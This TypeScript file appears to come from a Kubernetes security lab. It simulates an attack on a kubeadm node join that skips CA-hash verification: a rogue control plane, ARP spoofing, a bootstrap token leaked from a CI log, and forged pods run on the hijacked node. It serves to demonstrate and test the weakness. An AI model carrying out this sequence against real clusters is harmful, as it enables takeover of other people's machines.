import { neighbour } from '../../attacker/position';
import { systemClock } from '../../client/clock';
import type { KubeClient } from '../../client/kube-client';
import { bootstrapClientCertificate } from '../../kubelet/bootstrap';
import { clientOf } from '../../kubelet/client-credential';
import { type DiscoveredCluster, discoverCluster } from '../../kubelet/discover-cluster';
import { type Kubelet, startKubelet } from '../../kubelet/kubelet';
import { parseKubeletConfiguration } from '../../kubelet/kubelet-configuration';
import { pinsOf } from '../../kubelet/public-key-pin';
import type { FabricHost } from '../../network/fabric';
import { generateKey, privateKeyPem } from '../../pki/key-algorithm';
import { selfSignedKubeletServing } from '../../pki/kubelet-serving';
import { type BootstrapToken, parseBootstrapToken } from '../../wire/detached-jws';
import { addresses, ports } from '../addresses';
import { randomCanaries } from '../canaries';
import { createObjects } from '../create-workloads';
import { publishClusterInfo } from '../joining-objects';
import type { Stage } from '../scenarios/stage';
import { signedWith, startControlPlaneOfAttacker } from './control-plane-of-attacker';
import { playOf } from './play';
import { outputOf } from './pod-output';

const server = { host: addresses.controlPlane, port: ports.apiserver };

export const joinWithoutCaHash = playOf({
  steps: [
    'attacker: kubeadm init',
    'attacker: arpspoof -t node-3 10.0.0.10',
    'node-3: kubeadm join 10.0.0.10:6443 --token ID.SECRET  # while the attacker does not know the token',
    'attacker: kubeadm token create ID.SECRET  # from a CI log',
    'node-3: kubeadm join 10.0.0.10:6443 --token ID.SECRET',
    'admin: kubectl get node node-3',
    'attacker: kubectl --kubeconfig own.conf get node node-3',
    'attacker: kubectl --kubeconfig own.conf run own --overrides=\'{"spec":{"nodeName":"node-3", …}}\'',
  ],
  options: {
    caCertHash: { about: 'whether node-3 is told the hash of the CA’s public key', type: 'boolean' },
  },
  async play(stage, { options }) {
    const { signal } = stage;
    const cluster = await stage.cluster();
    const { admin, attackerHost, newNode, pki } = cluster;
    await publishClusterInfo(admin, server, pki.caPem);
    const token = parseBootstrapToken(await cluster.credentials.bootstrapToken());
    if (token === null) throw new Error('the lab made no bootstrap token');
    await signedWith(admin, token, signal);
    const pins = options.caCertHash ? pinsOf(pki.caPem) : [];
    const [pin] = pins;
    const flag =
      pin === undefined
        ? '--discovery-token-unsafe-skip-ca-verification'
        : `--discovery-token-ca-cert-hash ${pin.slice(0, 15)}…`;
    const join = `kubeadm join ${server.host}:${server.port} --token ${token.id}.${token.secret} ${flag}`;

    const rogue = await startControlPlaneOfAttacker(stage, attackerHost);
    await stage.did('attacker', 'kubeadm init', `a control plane of its own, CA ${pinsOf(rogue.caPem)[0]}`);
    const position = neighbour(newNode, attackerHost, server.host);
    position.take();
    attackerHost.nat.redirect({ to: { address: server.host, port: server.port }, toPort: server.port });
    await stage.did('attacker', `arpspoof -t ${newNode.name} ${server.host}`, position.describe());

    // The id stands in cluster-info, for anybody; the secret it has to guess.
    await rogue.know({ id: token.id, secret: stage.random.hex(8) });
    const withoutToken = await discover(stage, newNode, token, pins);
    if (withoutToken.kind === 'discovered') throw new Error('node-3 believed somebody without the token');
    await stage.refused('node-3', `${join}  # while the attacker does not know the token`, withoutToken.text);

    await rogue.know(token);
    const create = `kubeadm token create ${token.id}.${token.secret}  # from a CI log`;
    await stage.did('attacker', create, 'its cluster-info is signed as node-3 expects it');
    const found = await discover(stage, newNode, token, pins);
    if (found.kind === 'refused') await stage.refused('node-3', join, found.text);
    else {
      if (found.caPem !== rogue.caPem) throw new Error('the attacker was not on the path of node-3');
      const saw = `bootstrap-kubelet.conf: the CA is ${pinsOf(found.caPem)[0]}`;
      await stage.gained('node-3', join, saw, 'a machine that believes its authority from now on');
    }

    const kubelet = found.kind === 'discovered' ? await runKubelet(stage, newNode, found.config) : null;
    const missing = await admin.request('GET', '/api/v1/nodes/node-3', { signal });
    await stage.did('admin', 'kubectl get node node-3', missing.words);
    const theirs = await rogue.admin.request('GET', '/api/v1/nodes/node-3', { signal });
    const look = 'kubectl --kubeconfig own.conf get node node-3';
    if (kubelet === null || !theirs.ok) return stage.refused('attacker', look, theirs.words);
    await stage.gained('attacker', look, 'node-3', 'a node of its own cluster');
    const output = await runPod(stage, rogue.admin, kubelet);
    const run = `kubectl --kubeconfig own.conf run own --overrides='{"spec":{"nodeName":"node-3", …}}'`;
    const saw = `crictl logs on node-3: ${output}`;
    if (output !== '')
      await stage.gained('attacker', run, saw, 'any pod it likes on that machine, root included');
  },
});

async function discover(stage: Stage, from: FabricHost, token: BootstrapToken, caCertHashes: string[]) {
  const { log, signal } = stage;
  const found = await discoverCluster({
    from,
    server,
    token,
    caCertHashes,
    clock: systemClock,
    log,
    signal,
  });
  if (found.kind === 'discovered') return found;
  return { ...found, text: `couldn't validate the identity of the API Server: ${found.text}` };
}

/** What the join does next: asks for a client certificate with the token, and becomes the node's kubelet with it. */
async function runKubelet(
  stage: Stage,
  host: FabricHost,
  config: DiscoveredCluster['config'],
): Promise<Kubelet> {
  const { log, signal } = stage;
  const random = stage.random.for(`kubelet on ${host.name}`);
  const keyPem = privateKeyPem((await generateKey('ec-p256', random.for('key'))).privateKey);
  await using client = clientOf(host, config);
  const options = { client, nodeName: host.name, keyPem, clock: systemClock, log, signal };
  const certificate = await bootstrapClientCertificate(options);
  if (certificate.kind === 'failed') throw new Error(`${host.name} got no certificate: ${certificate.text}`);
  const configuration = {
    apiVersion: 'kubelet.config.k8s.io/v1beta1',
    kind: 'KubeletConfiguration',
    address: addresses.node3,
    healthzPort: 0,
    authentication: { x509: { clientCAFile: '/etc/kubernetes/pki/ca.crt' } },
  };
  const { trust } = config;
  return stage.closeLater(
    await startKubelet({
      host,
      nodeName: host.name,
      config: parseKubeletConfiguration(JSON.stringify(configuration), 'KubeletConfiguration'),
      apiserver: { server: config.server, trust, clientCertificate: certificate.pair },
      sandbox: { attachPod: () => host },
      servingKeyPair: await selfSignedKubeletServing(host.name, { random: random.for('serving') }),
      clientCaPem: trust.kind === 'verify' ? trust.bundlePem : null,
      log,
      random,
    }),
  );
}

/** What a pod that only the attacker's apiserver knows wrote on that machine; '' when it is not what it was told to. */
async function runPod({ random, signal }: Stage, admin: KubeClient, kubelet: Kubelet): Promise<string> {
  const { forged } = randomCanaries(random);
  const command = ['sh', '-c', `echo ${forged}; sleep 100000`];
  const spec = { nodeName: kubelet.nodeName, containers: [{ name: 'own', image: 'busybox', command }] };
  const object = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'own', namespace: 'default' }, spec };
  await createObjects(admin, [{ path: '/api/v1/namespaces/default/pods', object }]);
  const output = await outputOf(kubelet, 'own', 'own', signal);
  return output.includes(forged) ? output : '';
}
